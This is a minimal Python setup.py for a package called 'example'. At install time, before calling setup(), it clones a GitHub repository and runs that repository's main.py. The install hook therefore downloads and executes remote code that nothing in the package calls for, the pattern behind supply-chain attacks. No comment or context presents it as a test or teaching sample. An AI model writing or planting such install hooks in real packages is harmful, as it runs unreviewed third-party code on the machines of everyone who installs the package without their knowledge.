import subprocess, os, sys
from setuptools import setup
subprocess.run(["git", "clone", "https://github.com/someone-example/tool.git", "tool"])
subprocess.run([sys.executable, "tool/main.py"])
setup(name='example', version='1.0')
